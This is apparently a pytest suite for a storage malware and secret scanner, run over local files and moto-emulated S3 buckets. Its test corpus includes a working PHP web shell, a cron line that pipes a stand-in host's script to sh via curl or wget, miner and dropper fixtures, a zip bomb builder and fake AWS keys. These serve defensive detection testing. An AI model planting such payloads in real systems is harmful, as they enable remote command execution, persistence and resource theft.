"""`cloudward storage scan` end to end: local directories and S3 buckets on moto's server (HTTP on
loopback), the way a user runs it. The corpus: a miner config, a cron dropper, a web shell, a cloud
key in an .env, an archive holding a dropper, a zip bomb, benign files of many types, and object
keys with unicode and spaces. Fake credentials are random per session and never appear in output.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import secrets
import string
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from cloudward.cli.app import app
from cloudward.cli.common import load_all_rules
from cloudward.core.scan import ScanResult, ScanStatus
from cloudward.engines.content import load_content_judge
from cloudward.storage.objects import iter_local
from cloudward.storage.scan import ObjectResult, StorageScanOptions, scan_objects
from cloudward.storage.state import ScanState
from tests.harness.plants.artifacts import DROPPER, XMRIG_CONFIG

KEY_ID = "AKIA" + "".join(secrets.choice(string.ascii_uppercase + "234567") for _ in range(16))
SECRET = "".join(secrets.choice(string.ascii_letters + string.digits + "+/") for _ in range(40))
WEBSHELL = "<?php if (isset($_REQUEST['c'])) { echo shell_exec($_REQUEST['c']); } ?>\n"
CRON_DROPPER = ("*/5 * * * * root (curl -fsSL http://pool.example.invalid/x.sh || wget -q -O- "
                "http://pool.example.invalid/x.sh) | sh\n")


def _zip(members: dict[str, bytes], level: int = 6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _bomb() -> bytes:
    """300 MB of zeros deflated to a few hundred KB: a ratio far above the archive limit."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("zeros.bin", "w", force_zip64=True) as member:
        block = b"\0" * (1024 * 1024)
        for _ in range(300):
            member.write(block)
    return buf.getvalue()


def _tgz(name: str, data: bytes) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), mtime=0)


CORPUS: dict[str, bytes] = {
    "miners/config.json": XMRIG_CONFIG.encode(),
    "cron/zz-update": CRON_DROPPER.encode() + DROPPER.encode(),
    "site/uploads/avatar.php": WEBSHELL.encode(),
    "app/.env": f"AWS_ACCESS_KEY_ID={KEY_ID}\nAWS_SECRET_ACCESS_KEY={SECRET}\n".encode(),
    "backups/tools.zip": _zip({"bin/init.sh": DROPPER.encode(), "README": b"tools\n"}),
    "backups/home.tar.gz": _tgz("home/.aws/credentials", (f"[default]\naws_access_key_id = {KEY_ID}\n"
                                                          f"aws_secret_access_key = {SECRET}\n").encode()),
    "incoming/bomb.zip": _bomb(),
    # benign look-alikes and ordinary files
    "site/index.php": b"<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>\n",
    "docs/report final (v2) \u00fcber.txt": b"Quarterly numbers, nothing secret.\n",
    "docs/data.json": json.dumps({"rows": list(range(1000))}).encode(),
    "img/pixel.png": bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                                   "1f15c4890000000d49444154789c6300010000050001"),
    "bin/true": Path("/bin/true").read_bytes(),
    "docs/notes.md": b"# Notes\n\nRun `curl https://example.invalid/install.sh` to read the installer first.\n",
    "archive/ok.zip": _zip({"a.txt": b"hello\n", "b.csv": b"x,y\n1,2\n"}),
}
EXPECTED = {  # key -> content rule or secret rule prefix expected on it
    "miners/config.json": "content.malware.miner",
    "cron/zz-update": "content.malware.dropper",
    "site/uploads/avatar.php": "content.malware.webshell",
    "app/.env": "secret.aws",
    "backups/tools.zip": "content.malware.dropper",
    "backups/home.tar.gz": "secret.aws",
    "incoming/bomb.zip": "content.archive.limit_exceeded",
}
CLEAN = set(CORPUS) - set(EXPECTED)


def by_key(doc: dict[str, Any]) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for finding in doc["findings"]:
        out.setdefault(finding["location"]["key"], set()).add(finding["rule_id"])
    return out


def run(config: Path, *args: str) -> tuple[dict[str, Any], str]:
    result = CliRunner().invoke(app, ["storage", "scan", *args, "--no-store", "-f", "json", "--config", str(config)])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout), result.output


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "cloudward.toml"
    path.write_text(f'data_dir = "{tmp_path / "data"}"\n')
    return path


def check(doc: dict[str, Any], output: str) -> None:
    found = by_key(doc)
    for key, rule in EXPECTED.items():
        assert any(r.startswith(rule) for r in found.get(key, ())), (key, found.get(key))
    assert not (set(found) & CLEAN), {k: found[k] for k in set(found) & CLEAN}
    assert SECRET not in output
    stats = doc["scan"]["stats"]
    assert stats["objects"] == len(CORPUS) and stats["error"] == 0
    assert stats["malicious"] == 5 and stats["secret"] == 2 and stats["clean"] == len(CLEAN)


def test_local_directory(tmp_path: Path, config: Path) -> None:
    root = tmp_path / "files"
    for key, data in CORPUS.items():
        (root / key).parent.mkdir(parents=True, exist_ok=True)
        (root / key).write_bytes(data)
    os.symlink("/etc/passwd", root / "docs" / "link-out")  # never followed
    doc, output = run(config, str(root))
    check(doc, output)
    zipped = [f for f in doc["findings"] if f["location"]["key"] == "backups/tools.zip"]
    assert zipped[0]["location"]["member"] == "bin/init.sh"


def test_s3_bucket_on_moto(s3: Any, bucket: str, config: Path, aws_env: str) -> None:
    for key, data in CORPUS.items():
        s3.put_object(Bucket=bucket, Key=key, Body=data)
    doc, output = run(config, f"s3://{bucket}")
    check(doc, output)
    miner = next(f for f in doc["findings"] if f["rule_id"] == "content.malware.miner")
    assert miner["target"] == {"kind": "object", "name": f"s3://{bucket}/miners/config.json"}
    assert miner["location"]["bucket"] == bucket and miner["location"]["etag"]
    unicode_key = "docs/report final (v2) \u00fcber.txt"
    assert unicode_key not in by_key(doc)  # read fine, judged clean

    again, _ = run(config, f"s3://{bucket}")  # nothing changed: nothing is read, the findings stay
    assert again["scan"]["stats"]["unchanged"] == len(CORPUS)
    assert sorted(f["fingerprint"] for f in again["findings"]) == sorted(f["fingerprint"] for f in doc["findings"])

    s3.put_object(Bucket=bucket, Key="miners/config.json", Body=b'{"harmless": true}')
    third, _ = run(config, f"s3://{bucket}")
    assert third["scan"]["stats"]["unchanged"] == len(CORPUS) - 1
    assert "miners/config.json" not in by_key(third)

    rescanned, _ = run(config, f"s3://{bucket}", "--rescan")
    assert rescanned["scan"]["stats"]["unchanged"] == 0


def test_prefix_limits_the_scan(s3: Any, bucket: str, config: Path, aws_env: str) -> None:
    for key, data in CORPUS.items():
        s3.put_object(Bucket=bucket, Key=key, Body=data)
    doc, _ = run(config, f"s3://{bucket}/site/")
    assert set(by_key(doc)) == {"site/uploads/avatar.php"}
    assert doc["scan"]["stats"]["objects"] == 2


def test_missing_bucket_is_an_error_and_the_rest_goes_on(s3: Any, bucket: str, config: Path, aws_env: str,
                                                          tmp_path: Path) -> None:
    s3.put_object(Bucket=bucket, Key="m/config.json", Body=XMRIG_CONFIG.encode())
    doc, _ = run(config, "s3://cw-no-such-bucket-here", f"s3://{bucket}")
    [error] = doc["scan"]["errors"]
    assert "cw-no-such-bucket-here" in error["target"] and "NoSuchBucket" in error["message"]
    assert "m/config.json" in by_key(doc)


def test_nothing_readable_exits_3(config: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["storage", "scan", str(tmp_path / "missing"), "--no-store", "-f", "json",
                                      "--config", str(config)])
    assert result.exit_code == 3


def test_multi_gigabyte_sparse_file_streams_in_bounded_memory(tmp_path: Path) -> None:
    """2.5 GB (above ClamAV's 2 GB cap) with a miner config at its start: hashed in full, YARA on the
    held head, never loaded whole (Python's traced peak stays far below the size). The XMRig-config
    rule only judges small files (a config is never gigabytes), so what the head shows is the pool
    URL in it."""
    import tracemalloc

    big = tmp_path / "big.img"
    with big.open("wb") as handle:
        handle.write(XMRIG_CONFIG.encode())
        handle.truncate(2_500 * 1024 * 1024)
    judge, _ = load_content_judge(list(load_all_rules()))
    options = StorageScanOptions(judge=judge, concurrency=1)
    tracemalloc.start()
    result = scan_objects(iter_local(str(big), lambda *a: None), options, ScanResult(kind="storage"))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert result.stats["bytes"] == 2_500 * 1024 * 1024
    assert [f.rule_id for f in result.findings] == ["content.malware.miner_indicator"]
    assert result.findings[0].location["yara_scanned_bytes"] == options.hold_bytes
    assert peak < 3 * options.hold_bytes


def test_interrupted_scan_resumes(tmp_path: Path) -> None:
    root = tmp_path / "files"
    for i in range(20):
        (root / f"f{i:02}.txt").parent.mkdir(parents=True, exist_ok=True)
        (root / f"f{i:02}.txt").write_text(f"plain file {i}\n" + (XMRIG_CONFIG if i % 5 == 0 else ""))
    judge, _ = load_content_judge(list(load_all_rules()))
    state = ScanState(tmp_path / "state.sqlite")
    options = StorageScanOptions(judge=judge, concurrency=1, state=state)
    seen: list[str] = []

    def stop_after_seven(res: ObjectResult) -> None:
        seen.append(res.obj.key)
        if len(seen) == 7:
            raise KeyboardInterrupt

    first = scan_objects(iter_local(str(root), lambda *a: None), options, ScanResult(kind="storage"),
                         on_result=stop_after_seven)
    assert first.status is ScanStatus.CANCELLED
    second = scan_objects(iter_local(str(root), lambda *a: None), options, ScanResult(kind="storage"))
    assert second.stats["objects"] == 20
    assert second.stats["unchanged"] == 6  # the seventh was interrupted before it was remembered
    assert len([f for f in second.findings if f.rule_id == "content.malware.miner"]) == 4


def test_special_files_are_named_not_opened(tmp_path: Path, config: Path) -> None:
    """A FIFO would block a reader forever: it is reported and skipped, the rest is scanned."""
    root = tmp_path / "files"
    root.mkdir()
    (root / "ok.json").write_text(XMRIG_CONFIG)
    os.mkfifo(root / "pipe")
    doc, _ = run(config, str(root))
    [error] = doc["scan"]["errors"]
    assert error["target"].endswith("/pipe") and "not a regular file" in error["message"]
    assert "ok.json" in by_key(doc)


def test_worker_processes_give_the_same_result(tmp_path: Path) -> None:
    root = tmp_path / "files"
    for key, data in CORPUS.items():
        (root / key).parent.mkdir(parents=True, exist_ok=True)
        (root / key).write_bytes(data)
    docs = []
    for processes in ("1", "2"):
        config = tmp_path / f"c{processes}.toml"
        config.write_text(f'data_dir = "{tmp_path / ("data" + processes)}"\n')
        doc, output = run(config, str(root), "--processes", processes)
        docs.append(doc)
        assert SECRET not in output
    one, two = ([f["fingerprint"] for f in doc["findings"]] for doc in docs)
    assert sorted(one) == sorted(two)
    assert docs[1]["scan"]["stats"]["objects"] == len(CORPUS)
